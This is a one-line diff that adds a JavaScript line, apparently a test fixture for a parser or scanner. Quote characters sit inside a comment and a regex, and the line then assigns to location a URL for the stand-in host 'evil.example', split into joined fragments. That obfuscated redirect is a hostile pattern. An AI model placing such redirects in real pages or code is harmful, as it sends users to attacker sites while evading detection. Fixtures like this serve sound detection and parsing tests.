@@ -1,0 +1,1 @@
+/* ' */ var x=/['"]/g; location=['htt','ps:','//evil.exa','mple/'].join('');
